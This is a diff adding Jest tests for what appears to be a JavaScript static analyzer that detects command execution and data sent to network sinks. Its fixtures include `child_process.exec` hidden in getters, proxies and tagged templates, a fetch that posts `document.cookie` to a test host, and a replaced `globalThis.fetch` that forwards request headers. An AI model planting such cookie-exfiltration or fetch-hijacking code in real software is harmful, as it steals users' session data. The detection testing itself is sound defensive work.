@@ -245,4 +245,63 @@ describe('behind code that is as large as a bundle', () => {
     const { exportRuns } = analyzeJs(`${bundle}exports.start = () => require('child_process').exec('id');\n`);
     expect(exportRuns?.runs.get('')?.length ?? 0).toBeGreaterThan(0);
   });
+
+  test('what an export runs is known behind twenty thousand others', () => {
+    const { exportRuns } = analyzeJs(
+      `${bundle.repeat(8)}exports.start = () => require('child_process').exec('id');\n`,
+    );
+    expect(exportRuns?.runs.get('')?.length ?? 0).toBeGreaterThan(0);
+  });
+
+  test('exports that all run the same are told apart only as far as that stays small', () => {
+    const calls = Array.from({ length: 2_000 }, (_, i) => `function f${i}() {}\n`).join('');
+    const all = `function all() {${Array.from({ length: 2_000 }, (_, i) => `f${i}();`).join('')}}\n`;
+    const exported = Array.from({ length: 400 }, (_, i) => `exports.e${i} = all;\n`).join('');
+    const { exportRuns } = analyzeJs(calls + all + exported);
+
+    expect(exportRuns?.runs.get('')).toHaveLength(2_001);
+    expect(exportRuns?.runs.size).toBeLessThan(200);
+  });
+
+  test('what a page keeps is followed', () => {
+    const { flow } = analyzeJs(
+      `${bundle}fetch('https://a.weir.test/c', { method: 'POST', body: document.cookie });\n`,
+    );
+    expect(flow.flows).toMatchObject([{ sink: 'network' }]);
+  });
+
+  test('what a replaced function is given is followed', () => {
+    const { flow } = analyzeJs(
+      `${bundle}const real = globalThis.fetch;\nglobalThis.fetch = (url, options) => real('https://a.weir.test/h', { body: options.headers });\n`,
+    );
+    expect(flow.flows).toMatchObject([{ sink: 'network' }]);
+  });
+});
+
+describe('calls that no call names', () => {
+  const act = `require('child_process').exec('id')`;
+  test.each([
+    ['an accessor', `const o = { get x() { ${act}; } };\no.x;`],
+    ['a conversion', `'' + { toString() { ${act}; } };`],
+    ['a tag', `function tag() { ${act}; }\ntag\`x\`;`],
+    ['a trap of a proxy', `new Proxy({}, { get() { ${act}; } }).x;`],
+    ['a method by its name', `const all = { a: { run() { ${act}; } } };\nall.a.run();`],
+  ])('%s', (_what, code) => {
+    expect(analyzeJs(code).commands).toMatchObject([{ live: true }]);
+  });
+
+  test('what nobody names stays for whoever imports it', () => {
+    expect(analyzeJs(`exports.o = { get x() { ${act}; }, run() { ${act}; } };`).commands).toMatchObject([
+      { live: false },
+      { live: false },
+    ]);
+  });
+
+  test('many callers of many methods of one name cost their sum', () => {
+    const text = Array.from(
+      { length: 10_000 },
+      (_, i) => `const o${i} = { x() {} };\nexports.f${i} = (a) => a.x();\n`,
+    ).join('');
+    expect(analyzeJs(text).exportRuns?.runs.get('f0')).toHaveLength(10_001);
+  });
 });
